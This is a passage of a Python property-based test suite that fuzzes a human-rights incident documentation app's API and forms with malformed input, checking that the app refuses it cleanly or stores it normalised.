    return None if acceptable else "Only http and https links are accepted."


def choice(allowed):
    return st.one_of(st.sampled_from(allowed), hostile_text(surrogates=True), json_values)


def files_in(folder: str) -> list[str]:
    return sorted(os.path.join(root, name) for root, _dirs, names in os.walk(folder) for name in names)


LINK = {"kind": "220904051501", "url": "https://example.org/video", "received_on": "", "captured_on": "",
        "acquisition": "", "originality": ""}


@st.composite
def link_fields(draw, as_json: bool):
    """A link's fields, valid but for at most one hostile value (so that a good share of links
    are taken): (fields, {error key: messages}, {field: value as stored})."""
    fields, stored, expected = dict(LINK), {"url": LINK["url"], "received_on": None, "captured_on": None}, {}
    field = draw(st.sampled_from(["url", "received_on", "captured_on", "acquisition", "originality", None]))
    if field == "url":
        fields["url"] = draw(urls if as_json else urls.filter(lambda u: not LONE_SURROGATE.search(u)))
        stored["url"] = normalised(fields["url"])
        if url_problem(fields["url"]):
            expected["link-url"] = {url_problem(fields["url"])}
    elif field in ("received_on", "captured_on"):
        stored[field], fields[field] = draw(date_cases(iso_only=True, before_1900=True))
        if stored[field] is None:
            expected[field] = {"Must be a date such as 2020-03-15.", "This date is in the future."}
    elif field is not None:
        allowed = ACQUISITIONS if field == "acquisition" else ORIGINALITY
        fields[field] = draw(choice(allowed) if as_json else st.one_of(st.sampled_from(allowed), hostile_text()))
        if fields[field] and fields[field] not in allowed:
            expected[field] = {"Unknown value"}
    return fields, expected, stored


@fuzz(30)
@given(changes=text_changes(EVIDENCE_TEXTS, surrogates=True, min_size=0), link=link_fields(as_json=True),
       # A browser escapes line breaks and quotes in a file's name; the test client would break
       # the multipart header with them instead.
       filename=hostile_text().filter(lambda name: not set(name) & set('\r\n"')),
       upload=text_changes(EVIDENCE_TEXTS, min_size=0), part=choice(ASSESSMENT_PARTS),
       outcome=choice(ASSESSMENT_OUTCOMES),
       method=st.one_of(st.just("Geolocated"), text_for(Text((), "", "", 2000, True), surrogates=True)))
def test_api_evidence(world, changes, link, filename, upload, part, outcome, method):
    """A link with hostile provenance, a file under a hostile name, and a verification assessment
    with hostile text: refused with each field named and nothing kept, not even the file; or
    stored as normalised, with the incident's new version and revision."""
    client, contributor = world.client, world.tokens["contributor"]
    incident = Incident.get_by_id(world.incident.id)
    store = world.app.config["SETTINGS"].EVIDENCE_DIR
    body, expected, stored = link
    for name, value in changes:
        set_path(body, EVIDENCE_TEXTS[name].path, value)
    expected = {**expected, **problems_of(changes, EVIDENCE_TEXTS)}
    before, files = db_state(), files_in(store)
    response = send_json(client, "POST", f"/api/v1/incidents/{incident.id}/evidence", body, contributor)
    tally("link", not expected)
    if expected:
        api_refusal(response, expected)
        assert_unchanged(before)
        assert files_in(store) == files
    else:
        assert response.status_code == 201, response.get_json()
        item = EvidenceItem.get_by_id(response.get_json()["id"])
        assert_reads_back(item.__data__, changes, EVIDENCE_TEXTS)
        assert {key: getattr(item, key) for key in stored} == stored
        assert Incident.get_by_id(incident.id).version == incident.version + 1
        assert incident.revisions.count() == revisions_of(incident.id, before) + 1

    form = {"kind": "160815201501", "file": (io.BytesIO(JPEG), filename)}
    for name, value in upload:
        form[name] = value
    expected = problems_of(upload, EVIDENCE_TEXTS)
    before, files = db_state(), files_in(store)
    response = client.post(f"/api/v1/incidents/{incident.id}/evidence", headers=contributor,
                           content_type="multipart/form-data", data=form)
    tally("file", not expected)
    if expected:
        api_refusal(response, expected)
        assert_unchanged(before)
        assert files_in(store) == files  # the upload's spool is gone too
    else:
        assert response.status_code == 201, response.get_data(as_text=True)[:300]
        # The name is metadata, never a path: kept without controls, folders or a leading dot.
        stored = EvidenceItem.get_by_id(response.get_json()["id"]).original_filename
        assert not set(stored) & (FORBIDDEN | {"/", "\\"}) and len(stored) <= 255 and not stored.startswith(".")

    expected = {}
    method_problem = Text((), "", "method", 2000, True, "This field is required.").problem(method)
    if method_problem:
        expected["method"] = {method_problem}
    for key, value, allowed in (("part", part, ASSESSMENT_PARTS), ("outcome", outcome, ASSESSMENT_OUTCOMES)):
        if not isinstance(value, str) or value not in allowed:
            expected[key] = {""}
    before = db_state()
    response = send_json(client, "POST", f"/api/v1/evidence/{world.item.id}/assessments",
                         {"part": part, "outcome": outcome, "method": method}, world.tokens["reviewer"])
    tally("assessment", not expected)
    if expected:
        api_refusal(response, expected)
        assert_unchanged(before)
    else:
        assert response.status_code == 201, response.get_json()
        assert Assessment.select().order_by(Assessment.id.desc()).first().method == normalised(method)


def assessed_item(world) -> EvidenceItem:
    """The world's item with one assessment by the reviewer, so that a second reviewer (the admin)
    has a status to confirm until the first confirmation."""
    if not Assessment.select().where(Assessment.item == world.item.id).exists():
        from incidents.evidence import verification
        verification.record_assessment(world.users["reviewer"], world.item.id,
                                       {"part": "source", "outcome": "consistent", "method": "Asked the sender."})
    return EvidenceItem.get_by_id(world.item.id)


def confirmation_expected(item: EvidenceItem, status) -> str:
    """What a confirmation of ``status`` must meet: "unknown" (422, the field named),
    "conflict" (409: not the working status, or nothing awaits confirmation), or "accepted"."""
    from incidents.verification_status import awaits_confirmation
    if not isinstance(status, str) or status not in VERIFICATION_STATUSES:
        return "unknown"
    return "accepted" if status == item.verification and awaits_confirmation(item) else "conflict"


@fuzz(25)
@given(status=choice(VERIFICATION_STATUSES))
@example(status="in_progress")
def test_api_verification_confirmation(world, status):
    """A second reviewer confirms a verification status with hostile values: an unknown status is
    refused with the field named, another than the working one (or one already public) as a
    conflict, nothing changed either way; the working status is made public."""
    item = assessed_item(world)
    expected = confirmation_expected(item, status)
    before = db_state()
    response = send_json(world.client, "POST", f"/api/v1/evidence/{item.id}/verification/confirm",
                         {"status": status}, world.tokens["admin"])
    tally("confirmation", expected == "accepted")
    if expected == "accepted":
        assert response.status_code == 200, response.get_json()
        assert EvidenceItem.get_by_id(item.id).confirmed_verification == status
    else:
        api_refusal(response, {"status": {"Unknown value"}} if expected == "unknown" else None)
        assert response.status_code == (422 if expected == "unknown" else 409)
        assert_unchanged(before)


wrong_versions = st.one_of(st.booleans(), st.floats(), any_list, any_object, st.integers(min_value=2**31 + 1),
                           st.integers(max_value=-1), st.sampled_from(["²", "1.0", "0x10", "9" * 5000, " ", "v1"]),
                           hostile_text().filter(lambda s: s.strip() and not s.strip().isdecimal()))


def version_number(value) -> int | None:
    """The number a version stands for: a whole number up to 2**31, or its decimal digits."""
    if isinstance(value, str) and value.strip().isdecimal() and len(value.strip()) < 11:
        value = int(value)
    return value if isinstance(value, int) and not isinstance(value, bool) and value <= 2**31 else None


def comment_problem(comment: str, required: bool) -> str | None:
    """A review comment is stripped, not otherwise normalised; the rest as for any text."""
    text = comment.strip()
    if required and not text:
        return "Please say why"
    if len(text) > 5000:
        return "The comment is too long."
    return CONTROL_MESSAGE if set(text) & FORBIDDEN else None


@fuzz(30)
@given(comment=st.one_of(hostile_text(surrogates=True), near_limit(5000)),
       version=st.one_of(st.none(), st.just("omitted"), st.just("current"), wrong_versions))
@example(comment="", version="omitted")  # an approval without a version published unread text
@example(comment="Please check the dates\x00\u202e", version="current")  # controls were stored in the comment
@example(comment="", version="²")  # a digit that int() cannot read: was a 500
@example(comment="", version="9" * 5000)  # more digits than int() reads: was a 500
def test_api_transition_comments_and_versions(world, comment, version):
    """Submitting with a hostile, missing or null version or a hostile comment, then returning it
    with the same comment: refused with the field named and nothing changed, or recorded with the
    comment stripped."""
    client = world.client
    incident = Incident.get_by_id(world.incident.id)
    if incident.status == "in_review":  # a returning refused in an earlier example
        incident = move(incident.id, world.users["reviewer"], "request_changes", comment="Back")
    sent = incident.version if version == "current" else version
    problem = comment_problem(comment, required=False)
    before = db_state()
    body = {"action": "submit", "comment": comment}
    if version != "omitted":
        body["version"] = sent
    response = send_json(client, "POST", f"/api/v1/incidents/{incident.id}/transitions", body,
                         world.tokens["contributor"])
    tally("submit", version == "current" and not problem)
    if version != "current" or problem:
        # What is missing or malformed is refused first (422); a well-formed but stale version is
        # a conflict.
        if version in (None, "omitted"):
            api_refusal(response, {"version": ["Required."]})
        elif version != "current" and version_number(version) is None:
            api_refusal(response, {"version": [""]})
        elif problem:
            api_refusal(response, {"comment": [problem]})
        else:
            assert response.status_code == 409, response.get_json()
        assert_unchanged(before)
        return
    assert response.status_code == 200, response.get_json()
    assert ReviewEvent.select().order_by(ReviewEvent.id.desc()).first().comment == comment.strip()

    problem = comment_problem(comment, required=True)
    before = db_state()
    response = send_json(client, "POST", f"/api/v1/incidents/{incident.id}/transitions",
                         {"action": "request_changes", "comment": comment, "version": incident.version + 1},
                         world.tokens["reviewer"])
    tally("return", not problem)
    if problem:
        api_refusal(response, {"comment": {problem}})
        assert_unchanged(before)
    else:
        assert response.status_code == 200 and response.get_json()["status"] == "draft", response.get_json()
        assert Incident.get_by_id(incident.id).review_comment == comment.strip()


def readable_id(value) -> int | None:
    """An incident id as a dossier request may give it: a whole number, or its decimal digits."""
    if isinstance(value, str) and value.isdecimal() and len(value) < 11:
        value = int(value)
    return value if isinstance(value, int) and not isinstance(value, bool) and 0 < value < 2**31 else None


def chosen_or_default(value, allowed) -> bool:
    return value is None or value == "" or (isinstance(value, str) and value in allowed)


@fuzz(25)
@given(ids=st.one_of(st.just(["published"]), st.lists(st.one_of(st.just("published"), st.just("draft"), json_values,
                                        st.sampled_from(["²", "9" * 5000, "0", "-1", "1.5", "٣"])), max_size=4),
                     json_values, st.lists(st.just("published"), min_size=201, max_size=201)),
       redaction=st.none() | choice(REDACTIONS), layout=st.none() | choice(LAYOUTS),
       file_format=st.none() | choice(FORMATS), lang=st.none() | choice(LANGUAGES),
       include_files=st.one_of(st.none(), st.booleans(), json_values))
@example(ids=["published"], redaction="public", layout="echr", file_format="docx", lang="uk", include_files=False)
@example(ids=["²"], redaction=None, layout=None, file_format=None, lang=None, include_files=None)  # was a 500
def test_api_dossier_requests(world, ids, redaction, layout, file_format, lang, include_files):
    """A dossier asked for with hostile ids and options: refused with a message and nothing
    recorded, or built and recorded in the audit trail."""
    published = make_incident(world.users["contributor"], world.facility) if not world.published else None
    if published is not None:
        world.published = publish(published, world.users["contributor"], world.users["reviewer"]).id
    names = {"published": world.published, "draft": world.incident.id}
    ids = [names.get(i, i) if isinstance(i, str) else i for i in ids] if isinstance(ids, list) else ids
    body = {"incident_ids": ids, "redaction": redaction, "layout": layout, "format": file_format, "lang": lang,
            "include_files": include_files}
    visible = {world.published} if redaction in (None, "", "public") else {world.published, world.incident.id}
    acceptable = (isinstance(ids, list) and 0 < len(ids) <= 200 and all(readable_id(i) in visible for i in ids)
                  and all(chosen_or_default(v, allowed) for v, allowed in
                          ((redaction, REDACTIONS), (layout, LAYOUTS), (file_format, FORMATS)))
                  and (not lang or (isinstance(lang, str) and lang in LANGUAGES))
                  and (include_files is None or isinstance(include_files, bool)))
    before = db_state()
    response = send_json(world.client, "POST", "/api/v1/dossiers", body, world.tokens["lawyer"])
    tally("dossier", acceptable)
    if not acceptable:
        api_refusal(response, {"incident_ids": [""]} if not isinstance(ids, list) or not ids else None)
        assert_unchanged(before)
        return
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == {"pdf": "application/pdf", "zip": "application/zip"}.get(
        file_format or "zip", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    assert [e["action"] for e in db_state()["AuditEvent"][len(before["AuditEvent"]):]] == ["dossier.export"]


def request_bodies():
    """(body, content type): JSON of any shape, JSON nested past any parser's stack, broken JSON,
    bytes that are no text at all, and form or multipart bodies where JSON is expected."""
    return st.one_of(
        st.tuples(json_values.map(json.dumps), st.just("application/json")),
        st.tuples(st.builds(deeply_nested, st.integers(1, 200_000), st.sampled_from(["list", "object"])),
                  st.just("application/json")),
        st.tuples(st.sampled_from(["{", "", "null", "[]", '{"a": NaN}', '{"a": 1e999999}', "1" * 5000,
                                   '{"version": 1, "version": "x"}', "\ufeff{}"]), st.just("application/json")),
        st.tuples(st.binary(max_size=64), st.sampled_from(["application/json", "text/plain", "application/octet-stream"])),
        st.tuples(st.just("a=1&b=%00"), st.sampled_from(["application/x-www-form-urlencoded",
                                                          "multipart/form-data; boundary=x"])),
    )


def url_arguments(world) -> dict:
    """Values for every argument a writing route takes; a route with a new one fails here first."""
    return {"incident_id": world.incident.id, "item_id": world.item.id, "facility_id": world.facility.id,
            "user_id": world.users["researcher"].id, "secret": "no-such-link"}


def test_json_nested_past_the_parsers_stack_is_a_400(world):
    """Python's JSON parser gives up on deep nesting with a RecursionError: that was a 500."""
    response = world.client.post("/api/v1/incidents", data=deeply_nested(100_000, "list"),
                                 content_type="application/json", headers=world.tokens["contributor"])
    assert response.status_code == 400 and response.get_json()["error"]["message"]


@fuzz(40)
@given(data=st.data(), body=request_bodies(),
       role=st.sampled_from(["contributor", "reviewer", "lawyer", "admin", None, "bogus"]))
def test_every_api_write_survives_any_body(world, data, body, role):
    """Every writing API route, found in the app's URL map, answers any body without a 5xx: a
    refusal is a JSON error that changed nothing."""
    rules = sorted((r for r in writing_rules(world.app) if r.rule.startswith("/api/")), key=lambda r: r.rule)
    rule = data.draw(st.sampled_from(rules), label="rule")
    method = data.draw(st.sampled_from(sorted(rule.methods & WRITING_METHODS)), label="method")
    arguments = url_arguments(world)
    path = world.app.url_map.bind("localhost").build(rule.endpoint, {a: arguments[a] for a in rule.arguments},
                                                     method=method)
    headers = world.tokens.get(role, {"Authorization": "Bearer bogus"} if role else {})
    before = db_state()
    response = world.client.open(path, method=method, data=body[0], content_type=body[1], headers=headers)
    tally(rule.endpoint, response.status_code < 400)
    assert response.status_code < 500, (rule.rule, response.get_data(as_text=True)[:300])
    if response.status_code >= 400:
        api_refusal(response)
        assert_unchanged(before)


# ---------------------------------------------------------------------------------------------
# The pages' forms (CSRF on, as in a browser: conftest keeps it on)
# ---------------------------------------------------------------------------------------------

def incident_form(facility_id: int) -> dict:
    """The new-incident form as a browser sends it, filled in and valid."""
    return {
        "facility": str(facility_id), "date_precision": "day", "date_start": "1900-01-01", "date_end": "",
        "original_language": "ru", "title_ru": "Пытки в больнице", "title_en": "Torture in the hospital",
        "narrative_ru": "Заключённого привязали к кровати.", "narrative_en": "A prisoner was tied to a bed.",
        "abuse": ["030502000000", "031701000000"], "perpetrators": ["010105000000"], "victims_count": "1",
        "violation_status": "040000000000", "graphic": "y",
        "persons-0-role": "victim", "persons-0-pseudonym": "Prisoner S.", "persons-0-legal_name": "Иванов И. И.",
        "persons-0-contact": "+7 900 000-00-00", "persons-0-citizenship": "RU", "persons-0-sex": "male",
        "persons-0-age": "35", "persons-0-consent": "anonymised",
        "responses-0-kind": "inquiry", "responses-0-date": "2021-01-01", "responses-0-body": "Prosecutor",
        "responses-0-description": "An inquiry was opened.",
        "evidence-0-kind": "220904051501", "evidence-0-url": "https://example.org/video",
        "evidence-0-description": "Part of the leaked archive",
    }


def not_in(allowed, blank_allowed: bool = True):
    """Form values outside ``allowed`` (and not blank, when blank means "the default")."""
    return hostile_text().filter(lambda v: v not in allowed and (v != "" or not blank_allowed))


def not_a_number_up_to(maximum: int):
    return st.one_of(st.sampled_from(["-1", str(maximum + 1), "1.5", "1e3", "²", "9" * 5000, " "]),
                     hostile_text().filter(lambda v: v != "" and not readable_int(v)))


# Form fields with values each must refuse, with the key its error is shown under.
FORM_REFUSALS = {
    "date_precision": not_in(DATE_PRECISIONS),
    "date_start": st.one_of(malformed_dates, st.sampled_from(["1899-12-31", "0001-01-01", ""])),
    "date_end": malformed_dates,
    "original_language": not_in(LANGUAGES),
    "violation_status": hostile_text().filter(lambda v: v != "" and not vocab.is_selectable("violation_status", v)),
    "victims_count": not_a_number_up_to(1_000_000),
    "abuse": st.lists(hostile_text().filter(lambda v: not vocab.is_selectable("abuse", v)), max_size=3),
    "perpetrators": st.lists(hostile_text().filter(lambda v: v and not vocab.is_selectable("perpetrators", v)),
                             min_size=1, max_size=3),
    "persons-0-role": not_in(PERSON_ROLES),
    "persons-0-sex": not_in(SEXES),
    "persons-0-consent": not_in(CONSENTS),
    "persons-0-age": not_a_number_up_to(120),
    "persons-0-citizenship": hostile_text().filter(lambda v: v.strip() and not geo.is_country(v.strip().upper())),
    "responses-0-kind": hostile_text().filter(lambda v: not vocab.is_selectable("responses", v)),
    "responses-0-date": malformed_dates,
    "evidence-0-kind": hostile_text().filter(lambda v: not vocab.is_selectable("evidence_kinds", v)),
}
form_refusals = st.lists(st.sampled_from(sorted(FORM_REFUSALS)).flatmap(
    lambda name: st.tuples(st.just(name), FORM_REFUSALS[name])), max_size=2, unique_by=lambda c: c[0])
# A form row left blank is dropped with whatever else it holds (records/forms.py).
ROWS = {"persons-0": ("pseudonym", "legal_name", "contact"), "responses-0": ("kind", "date", "body", "description"),
        "evidence-0": ("url", "description")}
NEW_FACILITY_TEXTS = {text.form: text for text in [
    Text(("names", "en"), "new_facility-name", "new_facility-names",
         required="Give the facility's name in at least one language."),
    Text(("locality",), "new_facility-locality", "new_facility-locality"),
    Text(("authority",), "new_facility-authority", "new_facility-authority"),
    Text(("notes",), "new_facility-notes", "new_facility-notes", 5000, True),
]}


def expected_on_page(form: dict, texts, refusals, specs) -> dict:
    """{error key: messages} for a posted incident form, as the documented rules decide."""
    # A title and a narrative are required in the original language; an unknown one is refused
    # and counts as English, its default, meanwhile.
    original = form["original_language"] if form["original_language"] in LANGUAGES else "en"
    specs = {name: replace(spec, required=REQUIRED_IN_ORIGINAL[spec.key] if name.endswith("_" + original) else "")
             if spec.key in REQUIRED_IN_ORIGINAL else spec for name, spec in specs.items()}
    expected = problems_of(texts, specs)
    for name, _value in refusals:
        expected.setdefault(name, set()).add("")
    url = form.get("evidence-0-url", "")
    if url_problem(url):
        expected.setdefault("evidence-0-url", set()).add(url_problem(url))
    for row, names in ROWS.items():
        if not any((form.get(f"{row}-{name}") or "").strip() for name in names):
            expected = {k: v for k, v in expected.items() if not k.startswith(row + "-")}
    return expected


@fuzz(30)
@given(texts=text_changes(INCIDENT_TEXTS), refusals=form_refusals,
       url=st.one_of(st.just("https://example.org/video"), urls.filter(lambda u: not LONE_SURROGATE.search(u))),
       row_id=st.one_of(st.just(""), hostile_text(), st.sampled_from(["²", "9" * 5000, "1"])),
       new_facility=st.one_of(st.none(), text_changes(NEW_FACILITY_TEXTS)),
       coordinates=st.tuples(st.sampled_from(["", "45", "91", "x"]), st.sampled_from(["", "45", "NaN"])))
@example(texts=[("title_en", "x")], refusals=[], url="https://example.org/video", row_id="²", new_facility=None,
         coordinates=("", ""))  # a digit that int() cannot read, as a row's id: was a 500
@example(texts=[("title_en", "x")], refusals=[], url="https://example.org/video", row_id="",
         new_facility=[("new_facility-notes", "x")], coordinates=("91", ""))  # the error was on no field shown
def test_page_incident_form(world, texts, refusals, url, row_id, new_facility, coordinates):
    """The new-incident and edit forms, posted with hostile texts, choices, numbers, dates, links
    and row ids, and with a facility entered on the way: a 4xx page showing each error beside its
    field and nothing saved, or the incident saved as normalised."""
    browser, token = world.browser("contributor")
    form = incident_form(world.facility.id)
    for name, value in [*texts, *refusals]:
        form[name] = value
    form.update({"evidence-0-url": url, "persons-0-id": row_id, "csrf_token": token})
    expected = expected_on_page(form, texts, refusals, INCIDENT_TEXTS)
    if new_facility is not None:
        form.update({"facility": "new", "new_facility-name": "IK-1", "new_facility-name_language": "en",
                     "new_facility-type": "penal_colony", "new_facility-country": "RU",
                     "new_facility-latitude": coordinates[0], "new_facility-longitude": coordinates[1]})
        form.update(new_facility)
        expected.update(problems_of(new_facility, NEW_FACILITY_TEXTS))
        latitude, longitude = (coordinate(value, limit) for value, limit in zip(coordinates, (90, 180), strict=True))
        if not latitude[1]:
            expected["new_facility-latitude"] = {""}
        if not longitude[1] or (latitude[1] and latitude[0] != longitude[0]):
            expected["new_facility-longitude"] = {""}

    before = db_state()
    response = browser.client.post("/incidents/new", data=form)
    tally("new incident", not expected)
    if expected:
        page_refusal(response, expected)
        assert_unchanged(before)
    else:
        assert response.status_code == 302, page_errors(response)
        created = Incident.get_by_id(int(response.headers["Location"].rsplit("/", 1)[1]))
        assert_reads_back(snapshot(created), texts, INCIDENT_TEXTS)
        if new_facility is not None:
            assert_reads_back(Facility.get_by_id(created.facility_id).__data__, new_facility, NEW_FACILITY_TEXTS)

    incident = Incident.get_by_id(world.incident.id)
    current = snapshot(incident)
    form.update({"facility": str(world.facility.id), "version": str(incident.version),
                 "responses-0-id": str(current["responses"][0]["id"]) if current["responses"] else ""})
    if new_facility is not None:
        expected = {k: v for k, v in expected.items() if not k.startswith("new_facility-")}
    before = db_state()
    response = browser.client.post(f"/incidents/{incident.id}/edit", data=form)
    tally("edit incident", not expected)
    if expected:
        page_refusal(response, expected)
        assert_unchanged(before)
    else:
        assert response.status_code == 302, page_errors(response)
        assert incident.revisions.count() == revisions_of(incident.id, before) + 1
        assert_reads_back(snapshot(Incident.get_by_id(incident.id)), texts, INCIDENT_TEXTS)


def alias_lines(text: str) -> tuple[bool, list[str]]:
    """(acceptable, as stored) for the aliases box: one alias per line (any line break Python
    knows), at most 50 lines, each a one-line text; blanks and repeats dropped."""
    lines = text.splitlines()
    alias = Text(("aliases",), "aliases", "aliases")
    acceptable = len(lines) <= 50 and not any(alias.problem(line) for line in lines)
    return acceptable, list(dict.fromkeys(n for n in map(normalised, lines) if n))


FACILITY_FORM_REFUSALS = {
    "type": hostile_text().filter(lambda v: not vocab.is_selectable("facility_types", v)),
    "country": hostile_text().filter(lambda v: not geo.is_country(v.strip().upper())),
    "region": hostile_text().filter(lambda v: v and v.strip().upper() != "RU-SAR"),
}


@fuzz(30)
@given(texts=text_changes(FACILITY_TEXTS),
       refusals=st.lists(st.sampled_from(sorted(FACILITY_FORM_REFUSALS)).flatmap(
           lambda name: st.tuples(st.just(name), FACILITY_FORM_REFUSALS[name])), max_size=1),
       aliases=st.one_of(hostile_text(), st.builds("\n".join, st.lists(st.sampled_from(["OTB-1", "", "a"]),
                                                                          min_size=49, max_size=52))),
       latitude=st.one_of(st.just(""), hostile_text(), st.builds(str, st.floats())),
       longitude=st.one_of(st.just(""), st.just("46.0"), hostile_text(), st.builds(str, st.floats())))
def test_page_facility_form(world, texts, refusals, aliases, latitude, longitude):
    """The new-facility and edit-facility pages with hostile names, aliases, coordinates, type,
    country and region: a 4xx page showing each error beside its field, or saved as normalised."""
    browser, token = world.browser("reviewer")
    form = {"name_en": "IK-1", "type": "penal_colony", "country": "RU", "region": "RU-SAR",
            "aliases": aliases, "latitude": latitude, "longitude": longitude, "csrf_token": token}
    for name, value in texts:
        form[FACILITY_TEXTS[name].form] = value
    form.update(refusals)
    expected = problems_of(texts, FACILITY_TEXTS)
    if not any(normalised(form.get("name_" + language, "")) for language in LANGUAGES) and "names" not in expected:
        expected["names"] = {"Give the facility's name in at least one language."}
    for name, _value in refusals:
        expected[name] = {""}
    aliases_ok, stored_aliases = alias_lines(aliases)
    if not aliases_ok:
        expected["aliases"] = {""}
    (lat_given, lat_ok, lat), (lon_given, lon_ok, lon) = coordinate(latitude, 90), coordinate(longitude, 180)
    if not lat_ok:
        expected["latitude"] = {""}
    if not lon_ok or (lat_ok and lat_given != lon_given):
        expected["longitude"] = {""}
    for path in ("/facilities/new", f"/facilities/{world.facility.id}/edit"):
        before = db_state()
        response = browser.client.post(path, data=form)
        tally(path.split("/")[-1], not expected)
        if expected:
            page_refusal(response, expected)
            assert_unchanged(before)
            continue
        assert response.status_code == 302, page_errors(response)
        stored = Facility.get_by_id(int(response.headers["Location"].rsplit("/", 1)[1]))
        assert_reads_back(stored.__data__, texts, FACILITY_TEXTS)
        assert (stored.aliases, stored.latitude, stored.longitude) == (stored_aliases, lat, lon)


@fuzz(25)
@given(changes=text_changes(EVIDENCE_TEXTS, min_size=0), link=link_fields(as_json=False),
       graphic=st.one_of(st.just("on"), hostile_text()),
       part=not_in(ASSESSMENT_PARTS, blank_allowed=False) | st.sampled_from(ASSESSMENT_PARTS),
       method=st.one_of(st.just("Geolocated"), text_for(Text((), "", "", 2000, True))),
       incident=st.one_of(hostile_text(), st.sampled_from(["²", "9" * 5000, "0", "-1", "1", " 1 ", "99999999999"])))
def test_page_evidence_forms(world, changes, link, graphic, part, method, incident):
    """Attaching a link, recording an assessment and tying an archive item to an incident from
    the pages, with hostile values: refused with the reason flashed and nothing saved, or saved
    as normalised."""
    contributor, token = world.browser("contributor")
    form, expected, stored = link
    form.update(changes, graphic=graphic, csrf_token=token)
    messages = {m for ms in [*expected.values(), *problems_of(changes, EVIDENCE_TEXTS).values()] for m in ms}
    before = db_state()
    response = contributor.client.post(f"/incidents/{world.incident.id}/evidence", data=form)
    tally("link", not messages)
    if messages:
        flashed_refusal(contributor, response, sorted(messages))
        assert_unchanged(before)
    else:
        assert response.status_code == 302 and response.headers["Location"].endswith("#evidence")
        item = EvidenceItem.select().order_by(EvidenceItem.id.desc()).first()
        assert_reads_back(item.__data__, changes, EVIDENCE_TEXTS)
        assert {key: getattr(item, key) for key in stored} == stored

    reviewer, token = world.browser("reviewer")
    problem = Text((), "", "method", 2000, True, "This field is required.").problem(method)
    before = db_state()
    response = reviewer.client.post(f"/evidence/{world.item.id}/assessments", data={
        "part": part, "outcome": "consistent", "method": method, "csrf_token": token})
    tally("assessment", not problem and part in ASSESSMENT_PARTS)
    if problem or part not in ASSESSMENT_PARTS:
        flashed_refusal(reviewer, response, [problem or "Unknown value"])
        assert_unchanged(before)
    else:
        assert Assessment.select().order_by(Assessment.id.desc()).first().method == normalised(method)

    unassigned = EvidenceItem.create(incident=None, kind="160815201501", created_by=world.users["admin"],
                                     stored_file=world.item.stored_file_id)
    before = db_state()
    response = reviewer.client.post(f"/evidence/{unassigned.id}/assign", data={"incident": incident, "csrf_token": token})
    tally("assign", readable_id(incident.strip()) == world.incident.id)
    if readable_id(incident.strip()) == world.incident.id:
        assert EvidenceItem.get_by_id(unassigned.id).incident_id == world.incident.id
    else:
        flashed_refusal(reviewer, response, ["No such incident."])
        assert_unchanged(before)


@fuzz(20)
@given(status=st.one_of(st.sampled_from(VERIFICATION_STATUSES), hostile_text()))
@example(status="in_progress")
def test_page_verification_confirmation(world, status):
    """The confirm button, posted with a hostile status: refused with the reason flashed and
    nothing changed, or the working status made public."""
    item = assessed_item(world)
    expected = confirmation_expected(item, status)
    admin, token = world.browser("admin")
    before = db_state()
    response = admin.client.post(f"/evidence/{item.id}/verification/confirm",
                                 data={"status": status, "csrf_token": token})
    tally("confirmation", expected == "accepted")
    if expected == "accepted":
        assert response.status_code == 302
        assert EvidenceItem.get_by_id(item.id).confirmed_verification == status
    else:
        flashed_refusal(admin, response, ["Unknown value"] if expected == "unknown" else
                        ["changed while you were reading", "Nothing awaits confirmation"])
        assert_unchanged(before)


@fuzz(30)
@given(comment=st.one_of(hostile_text(), near_limit(5000)), action=st.one_of(st.just("submit"), hostile_text()),
       version=st.one_of(st.just("current"), st.just(""), hostile_text(), st.sampled_from(["²", "9" * 5000, "-1"])))
@example(comment="", action="submit", version="²")  # a digit that int() cannot read: was a 500
def test_page_review_transition(world, comment, action, version):
    """The review buttons, posted with hostile comments, actions and versions: refused with the
    reason flashed (a missing version too) and nothing changed, or moved on."""
    browser, token = world.browser("contributor")
    incident = Incident.get_by_id(world.incident.id)
    if incident.status == "in_review":
        incident = move(incident.id, world.users["reviewer"], "request_changes", comment="Back")
    sent = str(incident.version) if version == "current" else version
    before = db_state()
    response = browser.client.post(f"/incidents/{incident.id}/transition",
                                   data={"action": action, "comment": comment, "version": sent, "csrf_token": token})
    problem = comment_problem(comment, required=False)
    tally("submit", version == "current" and action == "submit" and not problem)
    if sent == "":
        flashed_refusal(browser, response, ["the version of the incident you read is missing"])
    elif version_number(sent) is None:
        flashed_refusal(browser, response, ["The version must be a whole number."])
    elif action not in workflow.ACTIONS:
        flashed_refusal(browser, response, ["Unknown action."])
    elif problem:
        flashed_refusal(browser, response, [problem])
    elif version != "current":
        flashed_refusal(browser, response, ["Someone changed this incident"])
    elif action != "submit":  # an action the author may not take, or not now
        flashed_refusal(browser, response)
    else:
        assert response.status_code == 302 and Incident.get_by_id(incident.id).status == "in_review"
        assert ReviewEvent.select().order_by(ReviewEvent.id.desc()).first().comment == comment.strip()
        return
    assert_unchanged(before)


emails = st.one_of(hostile_text(), st.builds("{}@{}".format, hostile_text(), hostile_text()),
                   st.builds("person{}@example.org".format, st.integers(0, 10**9)),
                   st.sampled_from(["new@example.org", " New@Example.org ", "a\x00b@example.org",
                                    "\u202eorg.elpmaxe@a", "a b@example.org", "@", "x@" + "a" * 260]))


def email_problem(email: str) -> str | None:
    """An address, lower-cased and stripped: an @, no blank and no control character inside, at
    most 254 characters, and nobody's yet."""
    email = email.strip().lower()
    if not email or "@" not in email or len(email) > 254 or any(c.isspace() or c in FORBIDDEN for c in email):
        return "Enter a valid e-mail address."
    if User.select().where(User.email == email).exists():
        return "A user with this e-mail address exists already."
    return None


@fuzz(30)
@given(email=emails, name=st.one_of(hostile_text(), near_limit(200)), role=st.one_of(st.sampled_from(ROLES), hostile_text()),
       action=st.one_of(st.sampled_from(["role", "activate", "password_link"]), hostile_text()))
@example(email="a\x00b@example.org", name="Test", role="researcher", action="role")  # a NUL was stored
@example(email="reviewer@example.org", name="Mallory\u202e", role="researcher", action="role")  # so was an override
def test_page_admin_forms(world, email, name, role, action):
    """Adding a person and changing one, with hostile addresses, names, roles and actions: a 4xx
    page or a flashed refusal, nothing saved; or the person saved as normalised."""
    browser, token = world.browser("admin")
    expected = {}
    if email_problem(email):
        expected["email"] = {email_problem(email)}
    if len(name) > 200 or set(name) & FORBIDDEN:  # as typed: the name is stripped only when stored
        expected["name"] = {TOO_LONG if len(name) > 200 else CONTROL_MESSAGE}
    if role not in ROLES:
        expected["role"] = {"Unknown role."}
    before = db_state()
    response = browser.client.post("/admin/users", data={"email": email, "name": name, "role": role,
                                                         "csrf_token": token})
